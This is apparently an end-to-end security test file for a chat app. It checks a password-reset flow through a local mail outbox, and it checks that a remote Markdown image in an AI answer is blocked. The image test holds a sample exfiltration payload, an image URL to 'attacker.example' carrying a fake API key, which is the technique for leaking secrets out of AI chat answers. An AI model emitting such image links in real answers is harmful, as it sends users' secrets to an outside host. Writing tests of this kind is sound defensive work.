// Security end-to-end suite: the password-reset flow through the local outbox (the server has
// neither SMTP nor SES configured, so each mail is a file in <data dir>/outbox), and an answer
// carrying `![](https://attacker…/?q=…)` that renders without the browser requesting anything
// from another origin. Started by scripts/test.d/50-e2e.sh with RAGENIE_E2E_OUTBOX set.

import { strict as assert } from "node:assert";
import { readFileSync, readdirSync } from "node:fs";
import { join } from "node:path";
import { BASE, eventually, signUp, startSuite } from "./lib.mjs";

const OUTBOX = process.env.RAGENIE_E2E_OUTBOX;
assert.ok(OUTBOX, "RAGENIE_E2E_OUTBOX names the server's outbox folder");

const { context, page, step, shot, done } = await startSuite("security");
const email = `reset-${Date.now()}-${Math.floor(Math.random() * 1e6)}@example.com`;
const password = "e2e first passphrase here";
const newPassword = "e2e second passphrase here";

/** Every request the browser makes, from any page of the context. */
const requests = [];
context.on("request", (r) => requests.push(r.url()));

function mailTo(address) {
  let files = [];
  try {
    files = readdirSync(OUTBOX).filter((f) => f.endsWith(".eml"));
  } catch {
    return null;
  }
  for (const f of files) {
    const text = readFileSync(join(OUTBOX, f), "utf8");
    if (text.includes(`\r\nTo: ${address}\r\n`)) return text;
  }
  return null;
}

let oldRefresh = "";

await step("sign up, then sign out", async () => {
  await signUp(page, email, password);
  oldRefresh = await page.evaluate(() => JSON.parse(localStorage.getItem("ragenie.tokens")).refresh_token);
  await page.evaluate(() => localStorage.removeItem("ragenie.tokens"));
});

let link = "";
await step("'Forgot your password?' mails a link to the outbox, and says the same as for any email", async () => {
  await page.goto("/login");
  await page.getByRole("link", { name: "Forgot your password?" }).click();
  await page.getByRole("heading", { name: "Reset your password" }).waitFor();
  await page.getByLabel("Email").fill(email);
  await page.getByRole("button", { name: "Send the link" }).click();
  const status = (await page.getByRole("status").textContent()) ?? "";
  assert.match(status, /If an account has this email/);
  await shot("10-reset-requested");
  const mail = await eventually(() => mailTo(email), "the reset mail in the outbox");
  link = mail.match(/https?:\/\/\S+\/reset-password#token=[\w.-]+/)?.[0] ?? "";
  assert.ok(link.startsWith(`${BASE}/reset-password#token=`), `a link to this app, got ${link}`);
  // An unknown email gets the same answer.
  const other = await page.request.post("/auth/password-reset", { data: { email: `nobody-${Date.now()}@example.com` } });
  assert.equal(other.status(), 202);
  assert.match((await other.json()).detail, /If an account has this email/);
});

await step("the link sets a new password, signs out the old session, and works once", async () => {
  await page.goto(link);
  await page.getByRole("heading", { name: "Choose a new password" }).waitFor();
  await page.getByLabel("New password", { exact: true }).fill(newPassword);
  await page.getByLabel("Confirm new password").fill(newPassword);
  await shot("11-reset-new-password");
  await page.getByRole("button", { name: "Set the new password" }).click();
  await page.waitForURL("**/login");
  await page.getByText("Your password is changed. Sign in with it.").waitFor();
  assert.ok(!page.url().includes("token="), "the spent token left the address bar");
  const refreshed = await page.request.post("/auth/refresh", { data: { refresh_token: oldRefresh } });
  assert.equal(refreshed.status(), 401, "the session from before the reset is revoked");
  await page.getByLabel("Email").fill(email);
  await page.getByLabel("Password", { exact: true }).fill(password);
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.getByRole("alert").waitFor();
  await page.getByLabel("Password", { exact: true }).fill(newPassword);
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.waitForURL("**/app/chat");
  // The same link again is refused with a reason.
  const again = await page.request.post("/auth/password-reset/confirm", {
    data: { token: link.split("#token=")[1], new_password: "e2e third passphrase here" },
  });
  assert.equal(again.status(), 401);
});

await step("an answer with a remote image renders without any request to another origin", async () => {
  const response = await page.goto("/app/chat");
  const csp = response?.headers()["content-security-policy"] ?? "";
  assert.match(csp, /img-src 'self' data: blob:/, `the page carries the CSP, got "${csp}"`);
  await page.getByRole("button", { name: "+ New chat" }).click();
  const box = page.getByRole("textbox", { name: "Message", exact: true });
  const before = requests.length;
  // The fake provider echoes the question, so the answer carries the image Markdown.
  await box.fill("Summarise ![status](https://attacker.example/collect?q=SECRET-API-KEY-123) please");
  await box.press("Enter");
  await eventually(async () => (await page.getByTestId("pending-answer").count()) === 0, "the stored answer");
  const answer = page.getByRole("article", { name: "Answer" }).last();
  const blocked = answer.locator("a.blocked-image");
  await blocked.first().waitFor();
  assert.equal(await blocked.first().getAttribute("href"), "https://attacker.example/collect?q=SECRET-API-KEY-123");
  assert.equal(await page.locator('img[src*="attacker"]').count(), 0, "no image points at the attacker");
  await page.waitForTimeout(1000);
  await shot("12-remote-image-blocked");
  const foreign = requests.slice(before).filter((u) => !u.startsWith(BASE) && !u.startsWith("data:") && !u.startsWith("blob:"));
  assert.deepEqual(foreign, [], "requests left for another origin");
});

await done();
